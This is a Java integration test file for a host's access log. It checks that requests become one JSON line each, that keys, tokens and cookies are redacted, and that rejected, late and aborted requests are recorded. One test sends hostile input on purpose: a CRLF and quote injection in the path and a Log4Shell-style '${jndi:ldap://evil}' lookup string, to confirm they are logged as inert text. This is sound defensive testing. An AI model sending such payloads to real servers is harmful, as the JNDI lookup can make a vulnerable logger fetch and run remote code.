package dev.busbar.host.observe;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import dev.busbar.host.config.ConfigurationException;
import dev.busbar.host.testing.Lab;
import dev.busbar.host.testing.TestHost;
import dev.busbar.host.testing.Wire;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The access log of a running host. */
final class AccessLogIT {
    private static final String TRACE = "4bf92f3577b34da6a3ce929d0e0e4736";

    @TempDir
    static Path data;

    private static TestHost host;

    @BeforeAll
    static void startHost() throws Exception {
        host = Lab.start(data);
    }

    @AfterAll
    static void stopHost() {
        host.close();
    }

    private static Path file(Path folder) {
        return folder.resolve("logs/access.log");
    }

    /** Waits for the line of a request. */
    private static JsonNode line(String member, String value) {
        List<JsonNode> found = new ArrayList<>();
        await("a line whose " + member + " is " + value).untilAsserted(() -> {
            found.clear();
            AccessLines.read(file(data)).stream()
                    .filter(line -> line.path(member).asText().equals(value))
                    .forEach(found::add);
            assertThat(found).hasSize(1);
        });
        return found.get(0);
    }

    private static HttpRequest.Builder named(String path, String correlationId) {
        return host.request(path).header("X-Correlation-ID", correlationId);
    }

    private static Wire.Answer ask(String... lines) throws Exception {
        try (Wire wire = Wire.to(host.host().port())) {
            return wire.lines(lines).read();
        }
    }

    private static void assertHasTheMembersOfTheContract(JsonNode line) {
        List<String> wanted = new ArrayList<>(AccessLines.MEMBERS);
        if (!line.has("traceId")) {
            wanted.remove("traceId");
        }
        assertThat(AccessLines.members(line)).isEqualTo(wanted);
        assertThat(line.get("type").asText()).isEqualTo("access");
    }

    @Test
    void a_request_is_one_line_with_all_members() throws Exception {
        HttpResponse<String> answer = host.send(named("/api/lab/items/7?secret=of+mine", "request-known")
                .header("traceparent", "00-" + TRACE + "-00f067aa0ba902b7-01")
                .header("User-Agent", "test/1"));

        JsonNode line = line("correlationId", "request-known");

        assertHasTheMembersOfTheContract(line);
        assertThat(line.get("traceId").asText()).isEqualTo(TRACE);
        assertThat(line.get("platform").asText()).isEqualTo("lab");
        assertThat(line.get("generation").asLong()).isEqualTo(1);
        assertThat(line.get("route").asText()).isEqualTo("/items/{id}");
        assertThat(line.get("method").asText()).isEqualTo("GET");
        assertThat(line.get("path").asText()).isEqualTo("/api/lab/items/7");
        assertThat(line.get("status").asInt()).isEqualTo(200);
        assertThat(line.get("bytes").asInt()).isEqualTo(answer.body().length());
        assertThat(line.get("durationMs").asDouble())
                .isGreaterThanOrEqualTo(line.get("handlerMs").asDouble());
        assertThat(line.get("handlerMs").asDouble()).isPositive();
        assertThat(line.get("principal").asText()).isNotEmpty();
        assertThat(host.key()).contains(line.get("keyId").asText());
        assertThat(line.get("clientIp").asText()).isEqualTo("127.0.0.1");
        assertThat(line.get("userAgent").asText()).isEqualTo("test/1");
    }

    @Test
    void a_credential_is_never_in_the_file() throws Exception {
        String key = host.key();
        String token = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhZGEifQ.c2lnbmF0dXJl";
        host.send(named("/api/lab/items/1?key=" + key, "request-query"));
        host.send(named("/api/lab/items/" + key, "request-path"));
        host.send(named("/api/lab/me", "request-agent").header("User-Agent", "x " + key + " " + token));
        host.send(named("/api/lab/me", "request-cookie").header("Cookie", "session=hidden-cookie"));
        host.send(HttpRequest.newBuilder(host.uri("/api/lab/me?access_token=" + token))
                .header("X-Correlation-ID", "request-token")
                .header("Authorization", "Bearer " + token));
        host.send(HttpRequest.newBuilder(host.uri("/health/live")).header("X-Correlation-ID", key));

        assertThat(line("correlationId", "request-token").get("status").asInt()).isEqualTo(401);
        assertThat(line("correlationId", "request-path").get("path").asText()).isEqualTo("/api/lab/items/[removed]");
        line("correlationId", "request-cookie");
        line("correlationId", "[removed]");

        String text = Files.readString(file(data));
        String secret = key.split("_")[3];
        assertThat(text).doesNotContain(key, secret, token, "c2lnbmF0dXJl", "hidden-cookie", "access_token");
    }

    @Test
    void hostile_text_makes_one_valid_line() throws Exception {
        ask(
                "GET /api/lab/%0d%0a%22%7d HTTP/1.1",
                "Host: localhost",
                "X-Correlation-ID: request-hostile",
                "User-Agent: \"}{\"a\":\u00e2\u0080\u00a8 ${jndi:ldap://evil} " + "x".repeat(5_000),
                "traceparent: 00-" + TRACE + "-00f067aa0ba902b7-01",
                "traceparent: 00-" + TRACE + "-00f067aa0ba902b7-00",
                "");

        JsonNode line = line("correlationId", "request-hostile");

        assertHasTheMembersOfTheContract(line);
        assertThat(line.has("traceId")).isFalse();
        assertThat(line.get("path").asText()).isEqualTo("/api/lab/%0d%0a%22%7d");
        assertThat(line.get("userAgent").asText())
                .startsWith("\"}{\"a\":")
                .contains("${jndi:ldap://evil}")
                .hasSize(AccessLine.TEXT_LIMIT);
    }

    @Test
    void rejections_by_the_server_and_pages_are_logged() throws Exception {
        String name = ask("GET /refused HTTP/1.1", "Host: localhost", "X-Large: " + "x".repeat(20_000))
                .header("X-Correlation-ID");
        String malformed = ask("GET /refused HTTP/1.1", "Host : localhost", "").header("X-Correlation-ID");
        String page = ask("GET /console.css HTTP/1.1", "Host: localhost", "").header("X-Correlation-ID");

        JsonNode large = line("correlationId", name);
        assertHasTheMembersOfTheContract(large);
        assertThat(large.get("status").asInt()).isEqualTo(431);
        assertThat(large.get("clientIp").asText()).isEqualTo("127.0.0.1");
        assertThat(line("correlationId", malformed).get("status").asInt()).isEqualTo(400);
        JsonNode shown = line("correlationId", page);
        assertThat(shown.get("route").asText()).isEqualTo("/console.css");
        assertThat(shown.get("status").asInt()).isEqualTo(200);
        assertThat(shown.get("bytes").asLong()).isPositive();
    }

    @Test
    void a_handler_past_its_deadline_is_logged_when_its_client_is_answered() throws Exception {
        ask("GET /api/lab/brief HTTP/1.1", "Host: localhost", "X-Correlation-ID: request-late", "");

        JsonNode line = line("correlationId", "request-late");

        assertThat(line.get("status").asInt()).isEqualTo(504);
        assertThat(line.get("level").asText()).isEqualTo("WARN");
        assertThat(line.get("handlerMs").asDouble()).isPositive();
        host.send(HttpRequest.newBuilder(host.uri("/api/lab/gate")).POST(HttpRequest.BodyPublishers.noBody()));
    }

    @Test
    void an_aborted_stream_and_a_head_request_are_one_line_each() throws Exception {
        ask("GET /api/lab/stream?n=9&bad=3 HTTP/1.1", "Host: localhost", "X-Correlation-ID: request-broken", "");
        try (Wire wire = Wire.to(host.host().port())) {
            wire.lines("HEAD /api/lab HTTP/1.1", "Host: localhost", "X-Correlation-ID: request-head", "")
                    .readHead();
        }

        assertThat(line("correlationId", "request-broken").get("level").asText())
                .isEqualTo("WARN");
        assertThat(line("correlationId", "request-head").get("method").asText()).isEqualTo("HEAD");
    }

    @Test
    void shutdown_writes_all_remaining_lines(@TempDir Path other) throws Exception {
        TestHost stopped = TestHost.start(other);
        for (int i = 0; i < 50; i++) {
            stopped.send(stopped.request("/health/live").header("X-Correlation-ID", "request-" + (1_000 + i)));
        }
        stopped.close();

        assertThat(AccessLines.read(file(other)))
                .extracting(line -> line.get("correlationId").asText())
                .contains("request-1000", "request-1049")
                .hasSize(50);
    }

    @Test
    void the_log_can_be_disabled_and_invalid_settings_are_rejected(@TempDir Path other, @TempDir Path third)
            throws Exception {
        try (TestHost silent =
                TestHost.start(other, "--accessLog.enabled=false", "--env=production", "--stop.delay=0s")) {
            HttpResponse<String> answer = silent.get("/auth/whoami");
            assertThat(answer.statusCode()).isEqualTo(200);
            assertThat(answer.headers().firstValue("Server-Timing")).isEmpty();
        }

        assertThat(file(other)).doesNotExist();
        assertThatThrownBy(() -> TestHost.start(third, "--accessLog.queue=1", "--port=70000"))
                .isInstanceOf(ConfigurationException.class)
                .hasMessageContaining("accessLog.queue = \"1\" (expected: 64 to 1000000)")
                .hasMessageContaining("70000");
    }
}
